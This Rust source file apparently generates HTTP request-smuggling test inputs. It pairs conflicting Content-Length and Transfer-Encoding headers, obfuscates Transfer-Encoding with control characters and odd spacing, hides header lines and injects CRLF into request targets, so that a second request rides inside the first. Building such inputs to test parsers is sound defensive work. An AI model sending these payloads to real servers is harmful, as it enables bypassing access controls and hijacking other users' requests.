//! Requests within requests: what is known to have been read in two ways by two programs.

use super::List;

/// What would be served to somebody else.
const INNER: &str = "GET /inner HTTP/1.1\r\nHost: inner\r\n\r\n";

pub(super) fn add(list: &mut List) {
    contradictions(list);
    hidden_codings(list);
    hidden_lines(list);
}

fn contradictions(list: &mut List) {
    list.idea("a length and a coding");
    let chunks = format!("0\r\n\r\n{INNER}");
    for length in [0, 3, 5, chunks.len()] {
        for coding in ["chunked", "Chunked", "identity", "gzip, chunked", "x", ""] {
            let length = format!("Content-Length: {length}");
            let coding = format!("Transfer-Encoding: {coding}");
            list.body(&format!("{length}\r\n{coding}"), &chunks);
            list.body(&format!("{coding}\r\n{length}"), &chunks);
            list.body(&format!("{coding}\r\nX: y\r\n{length}"), &chunks);
            for version in ["1.0", "1.1"] {
                let head = format!(
                    "POST / HTTP/{version}\r\nHost: a\r\nConnection: keep-alive\r\n{length}\r\n{coding}\r\n\r\n"
                );
                list.push(format!("{head}{chunks}"));
            }
        }
    }
    list.idea("a body of one length around a request");
    for length in [0, 1, INNER.len() - 1, INNER.len(), INNER.len() + 1] {
        list.body(&format!("Content-Length: {length}"), INNER);
        list.body(
            "Transfer-Encoding: chunked",
            format!("{length:x}\r\n{INNER}\r\n0\r\n\r\n"),
        );
    }
    list.push(format!(
        "GET / HTTP/1.1\r\nHost: a\r\nContent-Length: {}\r\n\r\n{INNER}",
        INNER.len()
    ));
    list.push(format!(
        "GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\n{INNER}"
    ));
}

fn hidden_codings(list: &mut List) {
    list.idea("codings that only some see");
    for line in [
        "Transfer-Encoding: xchunked",
        "Transfer-Encoding : chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
        "Transfer-Encoding:\tchunked",
        "Transfer-Encoding\t: chunked",
        " Transfer-Encoding: chunked",
        "X: y\nTransfer-Encoding: chunked",
        "X: y\rTransfer-Encoding: chunked",
        "X: y\r\r\nTransfer-Encoding: chunked",
        "X:\nTransfer-Encoding: chunked",
        "X:\rTransfer-Encoding: chunked",
        "Transfer-Encoding\n: chunked",
        "Transfer-Encoding\r\n : chunked",
        "Transfer-Encoding: chunked\u{b}",
        "Transfer-Encoding:\u{c}chunked",
        "Transfer-Encoding: \u{7f}chunked",
        "\0Transfer-Encoding: chunked",
        "Transfer-Encoding\0: chunked",
        "Transfer-Encoding: chun\0ked",
        "Transfer-Encoding: cow, chunked",
        "Transfer-Encoding: chunked, cow",
        "Transfer_Encoding: chunked",
        "transfer-Encoding: CHUNKED",
        "Transfer-Encoding: 'chunked'",
        "Transfer-Encoding: [chunked]",
        "X: y\r\n\tTransfer-Encoding: chunked",
        "Foo: bar\r\n\rTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r",
        "Transfer-Encoding: chunked\n",
    ] {
        for body in [format!("0\r\n\r\n{INNER}"), INNER.to_owned()] {
            list.body(line, &body);
            list.body(&format!("Content-Length: {}\r\n{line}", body.len()), &body);
            list.body(&format!("{line}\r\nContent-Length: {}", body.len()), &body);
        }
    }
}

fn hidden_lines(list: &mut List) {
    list.idea("lines that only some see");
    for name in [
        "Content-Length: 45",
        "Host: b",
        "X-Forwarded-For: 1.2.3.4",
        "Connection: close",
    ] {
        for line in [
            format!("X: y\n{name}"),
            format!("X: y\r{name}"),
            format!("X: y\r\r\n{name}"),
            format!("X: y\r\n {name}"),
            format!("X: y\r\n\t{name}"),
            format!("X:\n{name}"),
            format!("X: y\0\r\n{name}"),
            format!("X: y\u{b}{name}"),
            format!("X: y\u{2028}{name}"),
            format!("X: y%0d%0a{name}"),
            format!("X: y\\r\\n{name}"),
            format!("\r{name}"),
            format!("\0{name}"),
            format!("X\n{name}"),
            format!("{name}\r"),
            format!("{name}\0"),
        ] {
            list.push(format!(
                "GET / HTTP/1.1\r\nHost: a\r\n{line}\r\n\r\n{INNER}"
            ));
        }
    }
    list.idea("requests in targets and values");
    for target in [
        "/ HTTP/1.1\nHost:b",
        "/%20HTTP/1.1%0d%0aHost:%20b",
        "/\rHTTP/1.1",
        "/\0",
        "/a\u{b}b",
        "http://a\r/",
    ] {
        list.line(format!("GET {target} HTTP/1.1"));
    }
}
